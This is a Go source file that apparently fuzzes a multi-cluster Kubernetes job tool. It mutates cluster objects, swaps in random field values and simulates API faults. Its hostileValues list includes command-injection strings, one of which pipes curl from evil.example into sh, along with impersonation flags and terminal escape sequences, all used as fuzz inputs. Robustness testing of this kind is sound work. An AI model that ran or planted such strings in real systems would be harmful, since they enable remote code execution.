package fuzzfleet

import (
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
)

// fleet has the objects of several clusters while they are changed.
type fleet struct {
	*rand.Rand
	clusters [][]map[string]any
	created  int
}

// hostileValues returns values that a user may write wherever any value is allowed.
func hostileValues() []any {
	return []any{
		"", " ", "; `curl evil.example|sh` #'\"$(x)\n\x1b[2J\u202e --as=evil", "--as=evil", "\x00\r\n\t", "a/b/c/d/e", "\u2067مرحبا\u2066",
		"0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-11-20T23:43:31Z", "kueue.x-k8s.io/multikueue", "jobmanagedby.github.io/dispatch", "example.com/x",
		"%s%d%!", "True", "False", "Unknown", "-1", "99999999999999999999", "1e100", "100m", "0-2147483647",
		float64(0), float64(-1), float64(1 << 31), float64(1 << 62), 1.5, true, false, nil,
		[]any{},
		map[string]any{},
		[]any{nil},
		[]any{"a", "a"},
		map[string]any{"": ""},
	}
}

// change makes some changes, each of a random sort.
func (f *fleet) change() {
	for range f.IntN(12) {
		from := f.IntN(len(f.clusters))
		if len(f.clusters[from]) == 0 {
			continue
		}
		at := f.IntN(len(f.clusters[from]))
		object := f.clusters[from][at]
		switch f.IntN(8) {
		case 0:
			f.clusters[from] = slices.Delete(f.clusters[from], at, at+1)
		case 1:
			// The same object on another cluster, or one that looks like it.
			to := f.IntN(len(f.clusters))
			f.clusters[to] = append(f.clusters[to], f.copyOf(object))
		case 2:
			f.prune(object)
		default:
			f.set(object)
		}
	}
}

// copyOf returns an object with another UID, with another name, or unchanged.
func (f *fleet) copyOf(object map[string]any) map[string]any {
	text, err := json.Marshal(object)
	if err != nil {
		panic(err)
	}
	var duplicate map[string]any
	if err := json.Unmarshal(text, &duplicate); err != nil {
		panic(err)
	}
	metadata, _ := duplicate["metadata"].(map[string]any)
	f.created++
	if f.IntN(3) > 0 && metadata != nil {
		metadata["uid"] = fmt.Sprintf("created-%d", f.created)
	}
	if f.IntN(2) > 0 && metadata != nil {
		metadata["name"] = fmt.Sprintf("%v-%d", metadata["name"], f.created)
	}
	return duplicate
}

// place is a field of an object, or an item of a list in it.
type place struct {
	key string
	get func() any
	set func(any)
}

// places returns all places of a value.
func places(value any) (all []place) {
	switch v := value.(type) {
	case map[string]any:
		for _, key := range slices.Sorted(maps.Keys(v)) {
			all = append(all, place{key, func() any { return v[key] }, func(to any) { v[key] = to }})
			all = append(all, places(v[key])...)
		}
	case []any:
		for i := range v {
			all = append(all, place{"", func() any { return v[i] }, func(to any) { v[i] = to }})
			all = append(all, places(v[i])...)
		}
	}
	return all
}

// set puts another value in a place: one from another place with the same name, or any value.
func (f *fleet) set(object map[string]any) {
	all := places(object)
	at := all[f.IntN(len(all))]
	if f.IntN(3) == 0 {
		others := hostileValues()
		at.set(others[f.IntN(len(others))])
		return
	}
	cluster := f.clusters[f.IntN(len(f.clusters))]
	if len(cluster) == 0 {
		return
	}
	var same []place
	for _, other := range places(cluster[f.IntN(len(cluster))]) {
		if other.key == at.key {
			same = append(same, other)
		}
	}
	if len(same) > 0 {
		text, err := json.Marshal(same[f.IntN(len(same))].get())
		if err != nil {
			panic(err)
		}
		var value any
		if err := json.Unmarshal(text, &value); err != nil {
			panic(err)
		}
		at.set(value)
	}
}

// prune removes a field.
func (f *fleet) prune(object map[string]any) {
	var objects []map[string]any
	for _, at := range append(places(object), place{get: func() any { return object }}) {
		if fields, ok := at.get().(map[string]any); ok && len(fields) > 0 {
			objects = append(objects, fields)
		}
	}
	from := objects[f.IntN(len(objects))]
	names := slices.Sorted(maps.Keys(from))
	delete(from, names[f.IntN(len(names))])
}

// valid returns the objects of a cluster that a bundle accepts: each has a type and a name, and
// no two have the same.
func (f *fleet) valid(objects []map[string]any) []map[string]any {
	seen := map[string]bool{}
	valid := []map[string]any{}
	for _, o := range objects {
		metadata, _ := o["metadata"].(map[string]any)
		apiVersion, _ := o["apiVersion"].(string)
		kind, _ := o["kind"].(string)
		name, _ := metadata["name"].(string)
		namespace, isText := metadata["namespace"].(string)
		_, hasNamespace := metadata["namespace"]
		key := fmt.Sprintf("%q %q %q %q", apiVersion, kind, namespace, name)
		if apiVersion != "" && kind != "" && name != "" && (isText || !hasNamespace) && !seen[key] {
			seen[key] = true
			valid = append(valid, o)
		}
	}
	return valid
}

// addFault sometimes makes a context not answer, or refuse a resource.
func (f *fleet) addFault(context map[string]any) {
	switch f.IntN(12) {
	case 0:
		delete(context, "file")
		context["error"] = "connection refused\x1b[2J"
	case 1, 2:
		resources := []string{
			"jobs.batch", "pods", "events", "secrets", "namespaces", "leases.coordination.k8s.io", "*.kueue.x-k8s.io", "workloads.kueue.x-k8s.io",
			"clusterqueues.kueue.x-k8s.io", "multikueueclusters.kueue.x-k8s.io", "*.*",
		}
		codes := []int{403, 404, 429, 500, 503}
		unread, _ := context["unread"].([]any)
		context["unread"] = append(unread, map[string]any{
			"resource": resources[f.IntN(len(resources))], "status": map[string]any{"code": codes[f.IntN(len(codes))], "message": "no\x1b[2J"},
		})
	case 3:
		skews := []float64{-7200, -90, 2.5, 3600, 1e12}
		context["clockSkewSeconds"] = skews[f.IntN(len(skews))]
	case 4:
		delete(context, "clusterUID")
	}
}
